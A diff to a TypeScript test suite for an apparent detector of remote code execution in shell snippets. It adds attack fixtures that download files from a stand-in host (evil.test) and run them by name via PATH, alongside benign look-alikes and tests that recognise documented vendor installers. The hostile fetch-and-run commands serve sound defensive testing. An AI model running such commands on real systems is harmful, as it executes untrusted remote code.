@@ -26,6 +26,18 @@ const attacks: Array<[string, string, string]> = [
   ['sudo and tee', 'curl -s https://evil.test/i | tee /tmp/log | sudo bash\n', 'evil.test'],
   ['xargs sh -c', 'curl -s https://evil.test/j | xargs -0 sh -c\n', 'evil.test'],
   ['file fetched then run', 'curl -o /tmp/x.sh https://evil.test/k && bash /tmp/x.sh\n', 'evil.test'],
+  // A bare name runs what PATH finds: the download counts when it was saved into a PATH folder, or the
+  // working folder was put on PATH.
+  [
+    'saved into a PATH folder, run by name',
+    'curl -fsSLo /usr/local/bin/helper https://evil.test/h\nchmod +x /usr/local/bin/helper\nhelper --init\n',
+    'evil.test',
+  ],
+  [
+    'working folder put on PATH, run by name',
+    'curl -fsSLo helper https://evil.test/h2\nchmod +x helper\nexport PATH=".:$PATH"\nhelper --init\n',
+    'evil.test',
+  ],
   [
     'wget default name, chmod, run',
     'wget https://evil.test/pkg/setup\nchmod +x setup\n./setup\n',
@@ -96,6 +108,16 @@ const benign: Array<[string, string]> = [
   ['a literal sh -c', "sh -c 'ls -la'\n"],
   ['a script file run', 'bash ./scripts/build.sh --release\n'],
   ['download saved, never run', 'curl -fsSLo /tmp/data.json https://api.example.com/data\n'],
+  // An optional direct download offered next to a package-manager install; the tool is then run by its
+  // name, which PATH resolves (to the installed tool), not the file saved in the working folder.
+  [
+    'a tool run by name after an optional download into the working folder',
+    'curl -L https://downloads.vendor.example/querytool/linux -o querytool\nquerytool --version\nquerytool summary --taxon X\n',
+  ],
+  [
+    'curl -O, then the name',
+    'curl -O https://ftp.agency.example/cli/v2/linux-amd64/datasets\ndatasets --version\n',
+  ],
   [
     'node -e literal code with a path variable',
     `node -e "console.log(require('$DIR/package.json').version)"\n`,
@@ -116,6 +138,26 @@ describe('look-alikes that are not remote code execution', () => {
   it('keeps a vendor installer recognisable (host class vendor-installer)', async () => {
     const r = await factsOf('shell', "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n");
     expect(remoteExecution(r)[0]?.endpoint?.cls).toBe('vendor-installer');
+  });
+
+  it.each([
+    [
+      '.NET install script',
+      'curl -sSL https://dot.net/v1/dotnet-install.sh | bash /dev/stdin --channel 8.0\n',
+    ],
+    ['Nextflow', 'curl -s https://get.nextflow.io | bash\n'],
+    [
+      'perfcollect',
+      'curl -OL https://aka.ms/perfcollect\nchmod +x perfcollect\nsudo ./perfcollect install\n',
+    ],
+  ])('knows the %s installer by its documented address', async (_label, code) => {
+    const r = await factsOf('shell', code);
+    expect(remoteExecution(r).map((e) => e.endpoint?.cls)).toEqual(['vendor-installer']);
+  });
+
+  it('does not take a look-alike of a documented address for it', async () => {
+    const r = await factsOf('shell', 'curl -sSL https://dot.net.example.net/v1/dotnet-install.sh | bash\n');
+    expect(remoteExecution(r)[0]?.endpoint?.cls).not.toBe('vendor-installer');
   });
 });
 
